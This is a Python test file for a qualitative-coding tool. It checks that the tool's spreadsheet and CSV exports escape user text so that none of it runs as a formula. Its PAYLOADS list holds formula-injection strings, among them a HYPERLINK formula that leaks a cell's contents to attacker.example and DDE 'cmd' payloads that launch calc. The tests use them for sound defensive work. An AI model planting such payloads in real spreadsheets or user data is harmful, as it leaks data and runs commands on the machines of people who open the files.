"""Spreadsheet formula injection: what users typed is written to spreadsheets as text, never a formula.

Payloads go in everywhere a user's string reaches an export — code names and definitions, memos,
participant attributes (names and values), transcript titles and speaker names — and every export is
then opened the way a spreadsheet would: the workbook with openpyxl (no cell may be a formula), the
CSV files with the csv module (no cell may start like a formula).
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from consult_coder.cells import csv_text, unescape_cell
from consult_coder.codebook import (
    Codebook,
    CodeSpec,
    apply_codebook,
    codebook_from_store,
    read_codebook_bytes,
)
from consult_coder.codebook import to_csv as codebook_csv
from consult_coder.export import ExportOptions, codings_csv, tables_xlsx
from consult_coder.ingest import import_files
from consult_coder.model import Coder, Coding, Transcript
from consult_coder.storage import Project
from tests.factories import EVERYONE, in_session

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
]
TRIGGERS = tuple("=+-@\t\r＝＋－＠")


def _payload_study(project: Project) -> None:
    """A project whose every user string is a payload, imported through the real importers."""
    people = "participant_id,group,role,age_band,=note,site\n" + "".join(
        f'P0{i},youth,"{p.replace(chr(34), chr(34) * 2)}",14-17,"{p.replace(chr(34), chr(34) * 2)}",-5\n'
        for i, p in enumerate(PAYLOADS[:4], start=1))
    # Caption voice tags take any speaker name, payloads included.
    files = [(f"P0{i}_consultation.vtt", f"WEBVTT\n\n00:00:01.000 --> 00:00:02.000\n<v Interviewer>"
              f"what helped?\n\n00:00:03.000 --> 00:00:04.000\n<v {name}>it was fine\n".encode())
             for i, name in enumerate(["-1+2", "+cmd|' /C calc'!A0", "@SUM(A1)", "=1+1"], start=1)]
    in_session(project, import_files, files, people.encode(), "people.csv", actor="test")
    codes = [CodeSpec(id=f"c{i}", name=p.strip() or "x", definition=p) for i, p in enumerate(PAYLOADS)]
    with project.session() as s:
        apply_codebook(s, Codebook(name="evil", codes=codes), "test")
        coder = Coder(name="=coder()")
        s.add(coder)
        s.flush()
        for i, t in enumerate(s.scalars(select(Transcript)).all()):
            start = t.text.index("it was fine")
            for j, p in enumerate(PAYLOADS):
                s.add(Coding(transcript_id=t.id, start=start, end=start + 11, code_id=f"c{j}",
                             coder_id=coder.id, memo=p if (i + j) % 2 else PAYLOADS[-1 - j]))
            t.title = PAYLOADS[i % len(PAYLOADS)]


def _starts_like_a_formula(cell: str) -> bool:
    return cell.lstrip(" ").startswith(TRIGGERS) and csv_text(cell) != cell


def test_no_workbook_cell_is_a_formula_on_any_sheet(project: Project) -> None:
    _payload_study(project)
    with project.session() as s:
        data = tables_xlsx(s, ExportOptions(layer="=coder()", viewer=EVERYONE))
    book = load_workbook(io.BytesIO(data))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    # The payloads are there, as the text the users typed.
    assert {PAYLOADS[0], "=note", "=coder()", "=1+1", "@SUM(A1)"} <= texts
    assert book["Codings"].max_row == 1 + 4 * len(PAYLOADS)


def test_csv_export_writes_every_user_string_as_text(project: Project) -> None:
    _payload_study(project)
    with project.session() as s:
        data = codings_csv(s, ExportOptions(layer="=coder()", viewer=EVERYONE))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    header, body = rows[0], rows[1:]
    assert len(body) == 4 * len(PAYLOADS)
    for row in rows:
        for cell in row:
            assert not _starts_like_a_formula(cell), cell
    assert "'=note" in header  # an attribute named by the user is escaped in the header too
    first = dict(zip(header, body[0], strict=True))
    assert first["site"] == "-5"  # a plain number stays a number, even a negative one
    assert int(first["start"]) >= 0 and int(first["end"]) > int(first["start"])  # numbers as numbers
    memos = {unescape_cell(dict(zip(header, r, strict=True))["memo"]) for r in body}
    # Escaping adds one apostrophe and changes nothing else (a carriage return is written as a line feed).
    assert memos == {p.replace("\r", "\n") for p in PAYLOADS}


def test_codebook_csv_escapes_and_reads_back_unchanged(sqlite_project: Project) -> None:
    book = Codebook(name="evil", codes=[CodeSpec(id=f"c{i}", name=p.strip() or "x", definition=p,
                                                 example=p) for i, p in enumerate(PAYLOADS)])
    text = codebook_csv(book)
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not _starts_like_a_formula(cell), cell
    again = read_codebook_bytes(text.encode(), "evil.csv")
    assert [(c.name, c.definition, c.example) for c in again.codes] == \
        [(c.name, c.definition, c.example) for c in book.codes]
    with sqlite_project.session() as s:
        apply_codebook(s, again, "test")
        assert codebook_from_store(s).codes[0].name == PAYLOADS[0]


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+1 (555) 0100", "'+1 (555) 0100"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("＝1", "'＝1"),
    ("-5", "-5"), ("+3.5", "+3.5"), ("-1e3", "-1e3"), (-5, -5), (2.5, 2.5), ("plain text", "plain text"),
    ("a=b", "a=b"), ("", ""),
])
def test_csv_text_escapes_formula_triggers_and_leaves_numbers(value: object, written: object) -> None:
    assert csv_text(value) == written
    if isinstance(value, str):
        assert unescape_cell(str(written)) == value
